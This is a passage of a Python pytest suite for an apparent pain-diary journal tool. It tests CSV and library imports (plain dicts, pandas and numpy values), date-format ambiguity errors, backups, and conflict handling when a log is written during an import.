    assert [e["date"] for e in stored(journal)] == ["2025-03-15", "2025-03-16"]
    both = write(tmp_path, "b.csv", "date,pain\n03/04/2025,3\n")
    error = import_refused(cli("import", str(both), "--date-format", "%m/%d/%Y",
                               "--date-format", "%d/%m/%Y"), journal, journal.read_bytes())
    assert ("row 2, column date '03/04/2025': the date could be 2025-03-04 (%m/%d/%Y) or "
            "2025-04-03 (%d/%m/%Y)") in error
    none = write(tmp_path, "n.csv", "date,pain\n2025/03/20,3\n")
    error = import_refused(cli("import", str(none), "--date-format", "%m/%d/%Y",
                               "--date-format", "%d.%m.%Y"), journal, journal.read_bytes())
    assert "matches none of the --date-format given (%m/%d/%Y, %d.%m.%Y)" in error


# The library: rows from a program ---------------------------------------------------------


def test_import_rows_takes_plain_dicts_with_nan_none_and_dates(tmp_path):
    """No extra package needed: float("nan") and None are empty cells, a date or datetime in
    `date` is its day, a datetime with its offset in logged_at that moment; the rows are
    numbered from 1 in the errors."""
    from datetime import datetime, timezone

    journal = Journal(tmp_path / "study.json")
    nan = float("nan")
    rows = [
        {"patient": "p1", "date": date(2025, 3, 1), "pain": 3, "worst": nan, "sleep": 6.5,
         "symptoms": None, "note": nan, "temperature": 38.4},
        {"patient": "p1", "date": datetime(2025, 3, 2, 21, 5), "time": "21:05", "pain": 4.0,
         "logged_at": datetime(2025, 3, 2, 21, 6, tzinfo=timezone.utc), "contacted": True},
        {"patient": "p1", "date": "2025-03-03", "pain": 11, "mood": nan},
        {"patient": "p1", "date": "2025-03-04", "pain": 2,
         "logged_at": datetime(2025, 3, 4, 9, 0)},  # no offset: not a moment
    ]
    with journal.transaction() as tx:
        result = transfer.import_rows(tx, rows, default_patient=None, stamp=STAMP,
                                      skip_invalid=True)
    assert (result.rows, result.imported, result.rejected) == (4, 2, 2)
    assert [(e.row, e.column) for e in result.errors] == [(3, "pain"), (4, "logged_at")]
    out = io.StringIO()
    transfer.export(journal.read(), out, "jsonl")
    got = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(r["date"], r["time"], r["pain"], r["worst"], r["sleep"], r["note"],
             r["temperature_c"], r["logged_at"], r["contacted"]) for r in got] == [
        ("2025-03-01", None, 3, None, 6.5, None, 38.4, None, None),
        ("2025-03-02", "21:05", 4, None, None, None, None, "2025-03-02T21:06:00+00:00", True)]


def test_import_rows_takes_pandas_records(tmp_path):
    """DataFrame.to_dict("records"): NaN, NaT and NA are empty cells, numpy numbers are
    numbers, Timestamps are a day in `date` and a moment in logged_at."""
    pd = pytest.importorskip("pandas")
    frame = pd.read_csv(io.StringIO(
        "participant_id,date,pain,worst,symptoms,note,sleep\n"
        f"p1,{d(1)},3,5,,,6.5\n"
        f"p1,{d(2)},4,,fever,called,\n"
        f"p2,{d(1)},2,,,,\n"), parse_dates=["date"])
    frame["logged_at"] = pd.to_datetime([f"{d(1)}T20:00:00+01:00", None,
                                         f"{d(1)}T21:00:00+01:00"], utc=True)
    frame["boluses"] = pd.array([1, None, 0], dtype="Int64")  # pandas' NA
    records = frame.to_dict("records")
    assert type(records[0]["pain"]).__module__ == "numpy" or isinstance(records[0]["pain"], int)
    result = Journal(tmp_path / "study.json").import_rows(records)
    assert (result.imported, result.errors) == (3, [])
    entries = {(e.patient, e.date): e for e in Journal(tmp_path / "study.json").entries()}
    first = entries[("p1", d(1))]
    assert (first.pain, first.worst, first.sleep, first.boluses, first.note) == (3, 5, 6.5, 1,
                                                                                 None)
    assert first.logged_at == f"{d(1)}T19:00:00+00:00"
    second = entries[("p1", d(2))]
    assert (second.symptoms, second.note, second.worst, second.logged_at) == (
        ["fever"], "called", None, None)
    assert entries[("p2", d(1))].boluses == 0


def test_import_rows_takes_numpy_values_and_pairs(tmp_path):
    np = pytest.importorskip("numpy")
    journal = Journal(tmp_path / "study.json")
    with journal.transaction() as tx:
        result = transfer.import_rows(tx, [
            (7, {"date": d(1), "pain": np.int64(3), "sleep": np.float64(7.5),
                 "contacted": np.bool_(True)}),
            {"date": np.datetime64(d(2)), "pain": np.int32(4), "mood": np.float64("nan")},
        ], default_patient="me", stamp=STAMP)
    assert (result.imported, result.errors) == (2, [])
    assert [(e.date, e.pain, e.sleep, e.contacted, e.mood) for e in
            sorted(journal.entries(), key=lambda e: e.date)] == [
        (d(1), 3, 7.5, True, None), (d(2), 4, None, None, None)]


def test_library_rows_that_cannot_be_read_are_errors_with_a_way_out(tmp_path):
    journal = Journal(tmp_path / "study.json")
    with pytest.raises(InputError, match="not a file name; read a file with read_rows"):
        journal.import_rows("diary.csv")
    with pytest.raises(InputError, match="there are no rows to import"):
        journal.import_rows([])
    result = journal.import_rows([{"date": d(1), "pain": 3}, ["not", "a", "row"]],
                                 skip_invalid=True)
    assert result.errors[0].row == 2 and "not a mapping" in result.errors[0].message
    assert result.imported == 1 and not (tmp_path / "diary.csv").exists()


def test_read_rows_takes_a_path_and_closes_the_file(tmp_path):
    source = write(tmp_path, "diary.csv", DIARY)
    rows = transfer.read_rows(source, "csv")
    assert [number for number, _ in rows] == [2, 3, 4, 5, 6]
    result = Journal(tmp_path / "study.json").import_rows(transfer.read_rows(str(source), "csv"))
    assert result.imported == 5
    with pytest.raises(InputError, match="no such file"):
        transfer.read_rows(tmp_path / "missing.csv", "csv")


def test_library_options_work_as_the_command_line_options(tmp_path):
    journal = Journal(tmp_path / "study.json")
    rows = [{"id": "1", "form": "diary", "day": "01.03.2025", "score": "none", "fever": "Yes"},
            {"id": "1", "form": "baseline", "day": "02.03.2025", "score": "4", "fever": ""}]
    result = journal.import_rows(rows, mapping={"id": "patient", "day": "date",
                                                "score": "pain"},
                                 date_format=["%d.%m.%Y"], where={"form": "diary"},
                                 value_map={"score": {"none": "0"}, "*": {"Yes": "1"}})
    assert (result.rows, result.filtered, result.imported) == (2, 1, 1)
    (entry,) = journal.entries()
    assert (entry.patient, entry.date, entry.pain, entry.symptoms) == ("1", d(1), 0, ["fever"])


def test_a_library_import_keeps_the_backup_the_command_line_keeps(cli, journal, tmp_path):
    before = seed_journal(cli, journal)
    result = Journal(journal).import_rows(transfer.read_rows(write(tmp_path, "d.csv", DIARY),
                                                             "csv"))
    assert result.written and result.imported == 5
    (copy,) = (journal.parent / "backups").iterdir()
    assert ".import." in copy.name and copy.read_bytes() == before
    # a refused one writes nothing and keeps no copy
    again = Journal(journal).import_rows([{"date": d(40), "pain": 5}], patient="me")
    assert again.conflicts and not again.written
    assert len(list((journal.parent / "backups").iterdir())) == 1


# Checked outside the lock: a log made meanwhile is kept ------------------------------------


def log_during_the_check(monkeypatch, journal: Path, at_row: int, args: list[str]):
    """While the import reads its rows (at ``at_row``), a `log` runs in another process
    that waits at most a second for the lock. Returns its results (filled in as it runs)."""
    logged = []
    real = transfer.read_rows

    def slow_rows(*a, **k):
        for n, item in enumerate(real(*a, **k)):
            if n == at_row:
                start = time.monotonic()
                done = run_child(["log", *args], child_env(journal,
                                                           PUMPJOURNAL_LOCK_TIMEOUT="1"))
                logged.append((done, time.monotonic() - start))
            yield item

    monkeypatch.setattr(transfer, "read_rows", slow_rows)
    return logged


def test_a_log_made_while_an_import_is_checked_is_kept_and_not_kept_waiting(
        cli, cli_json, journal, tmp_path, monkeypatch):
    seed_journal(cli, journal)
    logged = log_during_the_check(monkeypatch, journal, 10,
                                  ["--pain", "7", "--date", d(60), "--note", "meanwhile"])
    rows = "date,pain\n" + "".join(f"{d(n)},{n % 11}\n" for n in range(1, 31))
    result = ok(cli("import", str(write(tmp_path, "rows.csv", rows))))
    ((done, took),) = logged
    assert done.returncode == 0, done.stderr
    assert took < 1.0  # it did not wait for the lock's timeout
    assert summary(result)["Imported"] == "30"
    notes = {e["date"]: e["note"] for e in stored(journal)}
    assert len(notes) == 32 and notes[d(60)] == "meanwhile" and notes[d(40)] == "logged by hand"


@pytest.mark.parametrize("mode", ["fail", "skip", "update"])
def test_conflicts_are_found_in_the_journal_as_it_is_when_the_import_writes(
        cli, journal, tmp_path, monkeypatch, mode):
    """The file holds a day a `log` adds while the rows are checked: the import sees it."""
    seed_journal(cli, journal)
    logged = log_during_the_check(monkeypatch, journal, 2,
                                  ["--pain", "7", "--date", d(20), "--note", "meanwhile"])
    rows = "date,pain\n" + "".join(f"{d(n)},{n % 11}\n" for n in range(1, 31))
    result = cli("import", str(write(tmp_path, "rows.csv", rows)), "--on-conflict", mode)
    assert logged[0][0].returncode == 0
    by_date = {e["date"]: e for e in stored(journal)}
    if mode == "fail":
        assert result.exit_code == 2 and f"me {d(20)}" in result.stderr
        assert set(by_date) == {d(20), d(40)}  # nothing imported, the log kept
    else:
        ok(result)
        assert len(by_date) == 31
        counts = summary(result)
        if mode == "skip":
            assert (counts["Imported"], counts["Skipped (already there)"]) == ("29", "1")
            assert (by_date[d(20)]["pain"], by_date[d(20)]["note"]) == (7, "meanwhile")
        else:  # the file's value replaces the one logged, which is otherwise kept
            assert (counts["Imported"], counts["Updated"]) == ("29", "1")
            assert (by_date[d(20)]["pain"], by_date[d(20)]["note"]) == (20 % 11, "meanwhile")
